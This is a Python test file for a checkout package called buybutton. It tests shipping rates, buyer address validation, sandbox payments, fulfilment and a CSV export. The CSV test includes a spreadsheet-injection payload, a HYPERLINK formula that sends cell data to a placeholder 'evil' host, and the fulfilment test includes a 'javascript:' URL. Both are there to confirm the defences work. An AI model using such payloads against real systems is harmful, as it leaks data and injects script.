"""Buyer details, shipping and fulfilment in the core: product shipping options, the sandbox
payment collecting email + address + rate, amounts, fulfil/deliver and the CSV export."""

import csv
import io
import json

import pytest
from sqlalchemy import select

from buybutton import catalog, merchants, orders
from buybutton.buyers import collect_buyer, validate_email
from buybutton.checkout import start_checkout
from buybutton.errors import Conflict, InvalidRequest
from buybutton.payments.sandbox import SandboxProvider
from buybutton.store.schema import events
from tests.support.accounts import create_account

URLS = ("http://shop.test/orders/r?checkout=success", "http://shop.test/orders/r?checkout=canceled")

SHIPPING = {
    "countries": ["fr", "BE", "FR"],
    "rates": [
        {
            "id": "colissimo",
            "name": "Colissimo",
            "amount": 490,
            "delivery_estimate": {"min_days": 2, "max_days": 4},
        },
        {"id": "express", "name": "Chronopost", "amount": 1290},
    ],
}
BUYER = {
    "email": "Camille@Example.FR",
    "name": "Camille  Martin",
    "address_line1": "8 rue de la Paix",
    "address_city": "Paris",
    "address_postal_code": "75 002",
    "address_country": "fr",
    "shipping_rate": "express",
}
CARD = "4242 4242 4242 4242"


@pytest.fixture
def provider(store):
    return SandboxProvider(store, clock=lambda: 10_000.0)


@pytest.fixture
def checkout(store, signer, provider, make_product, make_token):
    def open_checkout(quantity=1, **fields):
        product = make_product(**fields)
        return start_checkout(
            store,
            signer,
            provider,
            make_token(product),
            quantity,
            return_urls=lambda o: URLS,
            ttl_seconds=1800,
            now=10_000.0,
        )

    return open_checkout


def reload(store, order):
    with store.read() as conn:
        return orders.get_order(conn, order.id)


def event_types(store, order):
    with store.read() as conn:
        rows = conn.execute(
            select(events.c.type).where(events.c.order_id == order.id).order_by(events.c.pk)
        )
        return list(rows.scalars())


def test_product_shipping_is_validated_and_normalised(make_product):
    product = make_product(shipping=SHIPPING, sku="MUG-1", gtin="4006381333931", brand="Acme")
    assert product.shipping.countries == ("FR", "BE")
    assert product.shipping.rate("colissimo").delivery_estimate == catalog.DeliveryEstimate(2, 4)
    assert product.shipping.rate("express").delivery_estimate is None
    data = json.loads(json.dumps(product.to_dict()))
    assert data["shipping"]["rates"][0] == {
        "id": "colissimo",
        "name": "Colissimo",
        "amount": 490,
        "delivery_estimate": {"min_days": 2, "max_days": 4},
    }
    assert (data["sku"], data["gtin"], data["mpn"], data["brand"]) == (
        "MUG-1",
        "4006381333931",
        None,
        "Acme",
    )


@pytest.mark.parametrize(
    ("shipping", "param"),
    [
        ({"countries": [], "rates": SHIPPING["rates"]}, "shipping.countries"),
        ({"countries": ["XX"], "rates": SHIPPING["rates"]}, "shipping.countries[0]"),
        ({"countries": ["FR"], "rates": []}, "shipping.rates"),
        (
            {"countries": ["FR"], "rates": [{"id": "a b", "name": "A", "amount": 1}]},
            "shipping.rates[0].id",
        ),
        (
            {"countries": ["FR"], "rates": [{"id": "a", "name": "A", "amount": -1}]},
            "shipping.rates[0].amount",
        ),
        (
            {
                "countries": ["FR"],
                "rates": [
                    {
                        "id": "a",
                        "name": "A",
                        "amount": 1,
                        "delivery_estimate": {"min_days": 5, "max_days": 2},
                    }
                ],
            },
            "shipping.rates[0].delivery_estimate.max_days",
        ),
        (
            {"countries": ["FR"], "rates": [{"id": "a", "name": "A", "amount": 1}] * 2},
            "shipping.rates[1].id",
        ),
        ({"countries": ["FR"], "rates": SHIPPING["rates"], "free": True}, "shipping"),
    ],
)
def test_bad_shipping_options_name_the_field(make_product, shipping, param):
    with pytest.raises(InvalidRequest) as info:
        make_product(shipping=shipping)
    assert info.value.param == param


def test_gtin_check_digit_is_verified(make_product):
    with pytest.raises(InvalidRequest) as info:
        make_product(gtin="4006381333932")
    assert info.value.param == "gtin"


def test_merchant_emails_and_return_policy(store, merchant):
    with store.transaction() as conn:
        updated = merchants.update_merchant(
            conn,
            merchant.id,
            {
                "email": "Orders@Shop.Example",
                "support_email": "help@shop.example",
                "return_policy": {"days": 30, "text": " Unused items. "},
            },
        )
    assert updated.to_dict()["return_policy"] == {"text": "Unused items.", "days": 30}
    assert (updated.email, updated.support_email) == ("Orders@shop.example", "help@shop.example")
    with store.transaction() as conn, pytest.raises(InvalidRequest) as info:
        merchants.update_merchant(conn, merchant.id, {"support_email": "not an address"})
    assert (info.value.code, info.value.param) == ("invalid_email", "support_email")
    with store.transaction() as conn:
        cleared = merchants.update_merchant(
            conn, merchant.id, {"return_policy": None, "email": None}
        )
    assert (cleared.return_policy, cleared.email) == (None, None)


def test_collect_buyer_validates_the_address_for_the_products_countries(make_product):
    product = make_product(shipping=SHIPPING)
    customer, shipping = collect_buyer(BUYER, product)
    assert customer.email == "Camille@example.fr"
    assert (shipping.name, shipping.address.postal_code, shipping.address.country) == (
        "Camille Martin",
        "75002",
        "FR",
    )
    assert (shipping.rate_id, shipping.rate_name, shipping.amount) == (
        "express",
        "Chronopost",
        1290,
    )
    for field, value, code in [
        ("email", "camille@", "invalid_email"),
        ("name", "", "invalid_address"),
        ("address_country", "DE", "country_not_allowed"),
        ("address_postal_code", "7500", "invalid_address"),
        ("shipping_rate", "teleport", "invalid_shipping_rate"),
    ]:
        with pytest.raises(InvalidRequest) as info:
            collect_buyer({**BUYER, field: value}, product)
        assert (info.value.param, info.value.code) == (field, code)


def test_goods_that_do_not_ship_still_need_an_email(make_product):
    product = make_product()
    customer, shipping = collect_buyer({"email": "a@example.com"}, product)
    assert (customer.email, shipping) == ("a@example.com", None)
    with pytest.raises(InvalidRequest) as info:
        collect_buyer({}, product)
    assert info.value.param == "email"


def test_validate_email_refuses_what_is_not_an_address():
    assert validate_email(" x@example.com ") == "x@example.com"
    for bad in ("", "x", "x@", "@example.com", "x@example..com", "x" * 250 + "@e.com"):
        with pytest.raises(InvalidRequest):
            validate_email(bad)


def test_sandbox_payment_records_buyer_address_and_charges_the_products_rate(
    store, provider, checkout
):
    order = checkout(quantity=2, shipping=SHIPPING)
    assert (order.fulfillment.status, order.shipping, order.amount_shipping) == (
        "unfulfilled",
        None,
        0,
    )
    # A forged amount in the form changes nothing: the rate's price is the product's.
    provider.pay(order.provider_session_id, CARD, {**BUYER, "amount_shipping": "0"})
    paid = reload(store, order)
    assert paid.status == "paid"
    assert (paid.amount_subtotal, paid.amount_shipping, paid.amount_total, paid.amount_paid) == (
        2400,
        1290,
        3690,
        3690,
    )
    assert paid.customer == orders.Customer(email="Camille@example.fr", name="Camille Martin")
    assert paid.shipping.address.line1 == "8 rue de la Paix"
    data = paid.to_dict()
    assert data["shipping"]["address"] == {
        "line1": "8 rue de la Paix",
        "line2": "",
        "city": "Paris",
        "postal_code": "75002",
        "state": "",
        "country": "FR",
    }
    assert (data["amount_subtotal"], data["amount_shipping"], data["amount_total"]) == (
        2400,
        1290,
        3690,
    )
    with store.read() as conn:
        payload = json.loads(
            conn.execute(select(events.c.data).where(events.c.type == "order.paid")).scalar_one()
        )
    assert payload["customer"]["email"] == "Camille@example.fr"
    assert payload["shipping"]["rate_id"] == "express"


def test_a_bad_field_charges_nothing(store, provider, checkout):
    order = checkout(shipping=SHIPPING)
    with pytest.raises(InvalidRequest) as info:
        provider.pay(order.provider_session_id, CARD, {**BUYER, "address_country": "US"})
    assert info.value.code == "country_not_allowed"
    again = reload(store, order)
    assert (again.status, again.customer.email, again.shipping) == ("pending", None, None)


def test_goods_that_do_not_ship_need_no_fulfilment(store, provider, checkout):
    order = checkout()
    provider.pay(order.provider_session_id, CARD, {"email": "a@example.com"})
    paid = reload(store, order)
    assert (paid.fulfillment.status, paid.shipping, paid.amount_total) == (
        "not_required",
        None,
        1200,
    )
    with store.transaction() as conn, pytest.raises(Conflict) as info:
        orders.fulfill_order(conn, paid.merchant_id, paid.id)
    assert info.value.code == "order_not_fulfillable"


def test_fulfil_then_deliver_emit_one_event_each(store, provider, checkout, merchant):
    order = checkout(shipping=SHIPPING)
    with store.transaction() as conn, pytest.raises(Conflict):
        orders.fulfill_order(conn, merchant.id, order.id)  # not paid yet
    provider.pay(order.provider_session_id, CARD, BUYER)
    tracking = {
        "carrier": "Chronopost",
        "tracking_number": "XY123",
        "tracking_url": "https://www.chronopost.fr/tracking?l=XY123",
    }
    with store.transaction() as conn:
        shipped = orders.fulfill_order(conn, merchant.id, order.id, now=20_000, **tracking)
    with store.transaction() as conn:
        again = orders.fulfill_order(conn, merchant.id, order.id, now=30_000)
        repeated = orders.fulfill_order(conn, merchant.id, order.id, now=35_000, **tracking)
    assert shipped == again == repeated  # the same call again changes nothing, updated_at too
    assert (shipped.fulfillment.status, shipped.fulfillment.shipped_at) == ("shipped", 20_000)
    assert shipped.fulfillment.tracking_url == tracking["tracking_url"]
    with store.transaction() as conn:
        corrected = orders.fulfill_order(conn, merchant.id, order.id, tracking_number="XY124")
    assert (corrected.fulfillment.tracking_number, corrected.fulfillment.carrier) == (
        "XY124",
        "Chronopost",
    )
    with store.transaction() as conn:
        delivered = orders.deliver_order(conn, merchant.id, order.id, now=40_000)
        orders.deliver_order(conn, merchant.id, order.id, now=50_000)
    assert (delivered.fulfillment.status, delivered.fulfillment.delivered_at) == (
        "delivered",
        40_000,
    )
    assert event_types(store, order) == ["order.paid", "order.shipped", "order.delivered"]


def test_fulfil_refuses_refunded_orders_and_bad_tracking(store, provider, checkout, merchant):
    order = checkout(shipping=SHIPPING)
    provider.pay(order.provider_session_id, CARD, BUYER)
    with store.transaction() as conn, pytest.raises(InvalidRequest) as info:
        orders.fulfill_order(conn, merchant.id, order.id, tracking_url="javascript:alert(1)")
    assert info.value.param == "tracking_url"
    with store.transaction() as conn:
        orders.mark_refunded(conn, order.id)
    for change in (orders.fulfill_order, orders.deliver_order):
        with store.transaction() as conn, pytest.raises(Conflict) as info:
            change(conn, merchant.id, order.id)
        assert info.value.code == "order_not_fulfillable"


def test_fulfil_is_for_the_orders_own_merchant(store, provider, checkout):
    order = checkout(shipping=SHIPPING)
    provider.pay(order.provider_session_id, CARD, BUYER)
    other = create_account(store, "Other shop")
    with store.transaction() as conn, pytest.raises(orders.NotFound):
        orders.fulfill_order(conn, other.id, order.id)


def test_unfulfilled_lists_paid_orders_still_to_ship(store, provider, checkout, merchant):
    to_ship = checkout(shipping=SHIPPING)
    provider.pay(to_ship.provider_session_id, CARD, BUYER)
    checkout(shipping=SHIPPING)  # pending: nothing to ship yet
    digital = checkout()
    provider.pay(digital.provider_session_id, CARD, {"email": "a@example.com"})
    with store.read() as conn:
        found, _ = orders.list_orders(conn, merchant.id, fulfillment="unfulfilled")
        assert [o.id for o in found] == [to_ship.id]
        with pytest.raises(InvalidRequest) as info:
            orders.list_orders(conn, merchant.id, fulfillment="lost")
    assert info.value.param == "fulfillment"


def test_csv_export_has_buyer_and_address_and_is_formula_safe(store, provider, checkout, merchant):
    order = checkout(shipping=SHIPPING, name='=HYPERLINK("http://evil/?"&A2,"x")')
    provider.pay(
        order.provider_session_id,
        CARD,
        {**BUYER, "name": "@SUM(1+1)", "address_line2": "-2 étage"},
    )
    with store.read() as conn:
        text = orders.orders_csv(conn, merchant.id, fulfillment="unfulfilled")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    row = rows[0]
    assert row["order_id"] == order.id
    assert row["product_name"].startswith("'=HYPERLINK")
    assert (row["shipping_name"], row["customer_name"]) == ("'@SUM(1+1)", "'@SUM(1+1)")
    assert row["shipping_line2"] == "'-2 étage"
    assert (row["shipping_postal_code"], row["shipping_country"], row["amount_total"]) == (
        "75002",
        "FR",
        "2490",
    )
    assert row["customer_email"] == "Camille@example.fr"
    assert tuple(rows[0]) == orders.CSV_COLUMNS


def test_migration_0012_gives_existing_orders_nothing_to_ship_and_goes_back(database_url):
    from sqlalchemy import inspect, text

    from buybutton.store import Store
    from tests.support.funnel_migration import migrate

    store = Store(database_url)
    try:
        # The per-test database is at head: step back to 0011 with an order in it, then up.
        migrate(store, "downgrade", "0011_funnel_events")
        assert "fulfillment_status" not in {
            c["name"] for c in inspect(store.engine).get_columns("orders")
        }
        with store.engine.begin() as conn:
            conn.execute(
                text(
                    "INSERT INTO merchants (id, name, api_key_hash, api_key_last4, created_at) "
                    "VALUES ('mch_m', 'M', 'h', '1234', 1)"
                )
            )
            conn.execute(
                text(
                    "INSERT INTO products (id, merchant_id, name, description, amount, currency, "
                    "active, allow_promotion_codes, in_feed, token_generation, max_per_order, "
                    "created_at, updated_at) VALUES ('prod_p', 'mch_m', 'Mug', '', 1200, 'eur', "
                    "true, false, false, 1, 10, 1, 1)"
                )
            )
            conn.execute(
                text(
                    "INSERT INTO orders (id, merchant_id, product_id, quantity, unit_amount, "
                    "amount, currency, status, stock_reserved, provider, created_at, updated_at, "
                    "expires_at) VALUES ('ord_o', 'mch_m', 'prod_p', 1, 1200, 1200, 'eur', "
                    "'paid', false, 'sandbox', 1, 1, 2)"
                )
            )
        migrate(store, "upgrade", "0012_buyer_shipping")
        with store.engine.begin() as conn:  # at 0012 itself: raw SQL (later columns are absent)
            row = conn.execute(
                text("SELECT fulfillment_status, amount_shipping FROM orders WHERE id = 'ord_o'")
            ).one()
        assert tuple(row) == ("not_required", 0)
        migrate(store, "upgrade", "head")
        with store.read() as conn:
            order = orders.get_order(conn, "ord_o")
            product = catalog.get_product(conn, "prod_p")
        assert (order.fulfillment.status, order.amount_shipping, order.shipping) == (
            "not_required",
            0,
            None,
        )
        assert (order.amount_total, order.customer.email, product.shipping) == (1200, None, None)
        migrate(store, "downgrade", "0011_funnel_events")
        with store.engine.begin() as conn:
            assert conn.execute(text("SELECT amount FROM orders")).scalar_one() == 1200
        migrate(store, "upgrade", "head")
    finally:
        migrate(store, "upgrade", "head")  # the schema is shared by later tests: leave it at head
        store.dispose()
